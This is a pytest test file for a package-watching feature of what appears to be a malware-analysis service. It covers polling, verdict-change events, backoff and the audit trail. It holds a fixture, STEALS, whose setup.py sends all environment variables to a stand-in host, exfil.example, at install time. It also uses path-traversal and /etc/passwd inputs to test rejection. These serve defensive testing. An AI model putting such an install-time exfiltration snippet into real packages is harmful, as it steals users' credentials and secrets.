"""From a watch to news about it: the index is asked, what is new is judged, what changes is told."""

from __future__ import annotations

import datetime

import pytest
from django.utils import timezone
from packageurl import PackageURL

from packamal.errors import FetchError
from packamal.server.accounts.models import AuditEvent, Role, User
from packamal.server.analyses import transitions
from packamal.server.analyses.claims import FRESH, Asker, Question, claim
from packamal.server.analyses.models import Analysis, StoredReport
from packamal.server.analyses.states import Lane, State
from packamal.server.pipeline.resolving import Resolved
from packamal.server.pipeline.run import run_next
from packamal.server.pipeline.submit import submit
from packamal.server.watches import lists, polling
from packamal.server.watches.happenings import KEPT, UNWATCHED, forget
from packamal.server.watches.models import Watch, WatchedPackage, WatchEvent
from packamal.server.watches.polling import MAX_AWAY, PERIOD, poll
from packamal.targets import parse_purl

pytestmark = [pytest.mark.django_db, pytest.mark.allow_hosts(["127.0.0.1"])]
STEALS = """
import os, urllib.request
from setuptools import setup
urllib.request.urlopen("https://exfil.example/", data=repr(dict(os.environ)).encode())
setup()
"""


@pytest.fixture
def person(db):
    return User.objects.create(username="person", role=Role.ANALYST)


@pytest.fixture
def watch(person):
    def add(*purls, owner=None):
        return lists.add("user:person", owner or person, None, purls or ("pkg:pypi/small",))

    return add


@pytest.fixture
def answers(monkeypatch):
    """What the index says, without one: purl -> version, digest or an error."""
    said: dict[str, object] = {}

    def resolve(purl):
        found = said.get(purl.to_string(), FetchError("away"))
        if isinstance(found, Exception):
            raise found
        version, digest = found
        return Resolved(parse_purl(f"{purl.to_string()}@{version}"), digest)

    monkeypatch.setattr(polling, "resolve", resolve)
    return said


def due_now():
    WatchedPackage.objects.update(next_at=timezone.now() - datetime.timedelta(seconds=1))


def told():
    return list(WatchEvent.objects.order_by("id").values_list("kind", "version", "level", "previous"))


def work():
    while run_next("w"):
        pass


def test_the_newest_version_is_judged_and_a_later_one_that_is_bad_is_told(index, watch):
    index.add("small", "1.0")
    watch()
    assert poll() == {"new": 1}
    row = Analysis.objects.get()
    assert (row.purl, row.lane, row.owner.username) == ("pkg:pypi/small@1.0", Lane.BULK, "person")
    work()
    assert told() == [("verdict", "1.0", "clean", "")]
    assert poll() == {}
    due_now()
    assert poll() == {"same": 1}
    index.add("small", "2.0", STEALS)
    due_now()
    assert poll() == {"new": 1}
    assert told()[1:] == [("new_version", "2.0", "", "")]
    work()
    level = Analysis.objects.get(version="2.0").level
    assert told()[2:] == [("verdict", "2.0", level, "clean"), ("turned_bad", "2.0", level, "clean")]


def test_asking_the_index_opens_no_archive(index, watch):
    index.add("small", "1.0")
    watch()
    poll()
    assert index.asked
    assert not any(path.startswith("/files/") for path in index.asked)


def test_other_content_under_the_same_version_is_judged_anew(index, watch):
    index.add("small", "1.0")
    watch()
    poll()
    work()
    index.add("small", "1.0", STEALS)
    due_now()
    assert poll() == {"new": 1}
    work()
    level = Analysis.objects.order_by("-created_at").first().level
    assert told()[1:] == [("changed_verdict", "1.0", level, "clean"), ("turned_bad", "1.0", level, "clean")]


def test_a_version_that_was_judged_before_it_was_seen_is_told_at_once(answers, watch, judge):
    watch()
    answers["pkg:pypi/small"] = ("1.0", "d")
    judge("1.0", "malicious")
    assert told() == []
    poll()
    assert told() == [("verdict", "1.0", "malicious", ""), ("turned_bad", "1.0", "malicious", "")]
    assert Analysis.objects.count() == 1


@pytest.fixture
def judge(person):
    """Ends an analysis of `small` with a verdict; the same version again is a re-analysis."""

    def end(version, level):
        purl = PackageURL("pypi", None, "small", version)
        row = claim(Question(purl.to_string(), purl, is_forced=True), Asker(person)).analysis
        lease = transitions.start(row.pk, "w", 10)
        report = StoredReport(digest="d" * 64, size_bytes=1, schema_version="1.0")
        assert transitions.finish(row.pk, lease.attempt, transitions.Result(report, level, 3, "why", 0))

    return end


def test_only_what_changes_is_told(answers, watch, judge):
    watch()
    answers["pkg:pypi/small"] = ("2.0", "d")
    poll()
    judge("2.0", "clean")
    judge("2.0", "clean")
    judge("2.0", "incomplete")
    judge("2.0", "suspicious")
    judge("2.0", "malicious")
    assert told() == [
        ("verdict", "2.0", "clean", ""),
        ("changed_verdict", "2.0", "incomplete", "clean"),
        ("changed_verdict", "2.0", "suspicious", "incomplete"),
        ("turned_bad", "2.0", "suspicious", "incomplete"),
        ("changed_verdict", "2.0", "malicious", "suspicious"),
    ]


def test_an_old_version_is_told_when_its_verdict_changes_and_not_else(answers, watch, judge):
    watch()
    answers["pkg:pypi/small"] = ("2.0", "d")
    poll()
    judge("1.0", "clean")
    assert told() == []
    judge("1.0", "malicious")
    assert told() == [("changed_verdict", "1.0", "malicious", "clean"), ("turned_bad", "1.0", "malicious", "clean")]
    judge("2.0", "clean")
    assert told()[2:] == [("verdict", "2.0", "clean", "")]


def test_one_question_serves_everybody_and_each_sees_what_came_after_them(answers, watch, judge, person):
    watch()
    answers["pkg:pypi/small"] = ("1.0", "d")
    poll()
    judge("1.0", "clean")
    late = User.objects.create(username="late")
    watch(owner=late)
    assert (WatchedPackage.objects.count(), Watch.objects.count(), poll()) == (1, 2, {})
    judge("1.0", "malicious")
    assert [event.kind for event in lists.events_of(person)] == ["turned_bad", "changed_verdict", "verdict"]
    assert [event.kind for event in lists.events_of(late)] == ["turned_bad", "changed_verdict"]
    row = lists.watches_of(late).get()
    assert (row.last_kind, row.package.latest.level) == ("turned_bad", "malicious")


def test_an_index_that_is_away_is_asked_later_and_later(answers, watch):
    watch()
    waits = []
    for _ in range(10):
        before = timezone.now()
        due_now()
        assert poll() == {"away": 1}
        row = WatchedPackage.objects.get()
        waits.append(round((row.next_at - before).total_seconds() / 600))
    assert waits == [1, 2, 4, 8, 16, 32, 64, 128, 144, 144]
    assert "did not answer" in row.trouble
    answers["pkg:pypi/small"] = ("1.0", "d")
    due_now()
    poll()
    row.refresh_from_db()
    assert (row.trouble, row.failures) == ("", 0)
    assert abs(row.next_at - timezone.now() - PERIOD) < datetime.timedelta(seconds=60)


def test_an_index_that_is_away_ends_the_pass_for_its_ecosystem_alone(answers, watch):
    watch(*(f"pkg:pypi/p{number}" for number in range(MAX_AWAY + 3)), "pkg:npm/there")
    answers["pkg:npm/there"] = ("1.0.0", "d")
    due_now()
    assert poll() == {"away": MAX_AWAY, "new": 1}


def test_a_package_that_does_not_exist_is_asked_for_now_and_then(index, watch):
    watch("pkg:pypi/nothing")
    assert poll() == {"missing": 1}
    assert "no such package" in WatchedPackage.objects.get().trouble
    assert poll() == {}


def test_a_long_list_does_not_hold_up_what_somebody_else_adds(answers, watch):
    watch(*(f"pkg:pypi/p{number}" for number in range(50)))
    watch("pkg:pypi/urgent", owner=User.objects.create(username="other"))
    ahead = WatchedPackage.objects.filter(next_at__lt=WatchedPackage.objects.get(name="urgent").next_at).count()
    assert ahead < 5


def test_two_processes_ask_once(answers, watch, monkeypatch):
    watch()
    answers["pkg:pypi/small"] = ("1.0", "d")
    look = polling._look
    monkeypatch.setattr(polling, "_look", lambda row: poll() == {} and look(row))
    assert poll() == {"new": 1}


def test_what_nobody_watches_is_not_asked_for_and_forgotten_in_time(answers, watch, person, judge):
    watch()
    answers["pkg:pypi/small"] = ("1.0", "d")
    poll()
    judge("1.0", "clean")
    lists.remove("user:person", Watch.objects.get())
    due_now()
    assert poll() == {}
    now = timezone.now()
    assert forget(now) == 0
    assert forget(now + UNWATCHED + PERIOD) > 0
    assert (WatchedPackage.objects.count(), WatchEvent.objects.count()) == (0, 0)


def test_old_events_are_forgotten(answers, watch, judge):
    watch()
    answers["pkg:pypi/small"] = ("1.0", "d")
    poll()
    judge("1.0", "clean")
    assert forget(timezone.now() + KEPT + PERIOD) == 1
    assert WatchedPackage.objects.count() == 1


def test_people_who_left_are_watched_for_no_longer(answers, watch, person):
    watch()
    User.objects.filter(pk=person.pk).update(is_active=False)
    assert poll() == {}


def test_an_odd_version_in_the_index_is_no_fault_of_ours(watch, monkeypatch):
    watch()
    odd = parse_purl("pkg:pypi/small")._replace(version="../../x")
    monkeypatch.setattr(polling, "resolve", lambda purl: Resolved(odd, "d"))
    assert poll() == {"odd": 1}
    assert (Analysis.objects.count(), WatchedPackage.objects.get().newest_version) == (0, "")


def test_a_failed_analysis_changes_no_verdict(index, watch):
    index.add("small", "1.0")
    watch()
    poll()
    index.files.clear()
    Analysis.objects.update(created_at=timezone.now() - FRESH)
    work()
    assert (Analysis.objects.get().state, told()) == (State.FAILED, [])


def test_what_is_added_and_removed_is_in_the_trail(watch, person):
    watch("pkg:pypi/one@1.0", "pkg:pypi/one", "/etc/passwd", "pkg:gem/x", "")
    entries = watch("pkg:pypi/ONE", "pkg:npm/two")
    assert [(entry.is_new, entry.error) for entry in entries] == [(False, ""), (True, "")]
    assert {watch.package.name for watch in lists.watches_of(person)} == {"one", "two"}
    lists.remove("user:person", lists.watches_of(person).get(package__name="one"))
    trail = list(AuditEvent.objects.order_by("id").values_list("action", "subject"))
    assert trail == [
        ("watch.create", "pkg:pypi/one"),
        ("watch.create", "pkg:npm/two"),
        ("watch.delete", "pkg:pypi/one"),
    ]


def test_names_with_capitals_are_heard(answers, watch, person):
    watch("pkg:npm/JSONStream@1.0.0")
    asked = WatchedPackage.objects.get()
    answers[asked.purl] = ("1.0.0", "d")
    poll()
    assert Analysis.objects.get().name == asked.name
    assert submit("pkg:npm/JSONStream@1.0.0", Asker(person), Lane.BULK).analysis.purl == "pkg:npm/jsonstream@1.0.0"


def test_nobody_watches_without_end(watch, monkeypatch):
    monkeypatch.setattr(lists, "MAX_WATCHES", 3)
    entries = watch(*(f"pkg:pypi/p{number}" for number in range(5)))
    assert [bool(entry.watch) for entry in entries] == [True, True, True, False, False]
    assert "remove some" in entries[-1].error
    assert Watch.objects.count() == 3
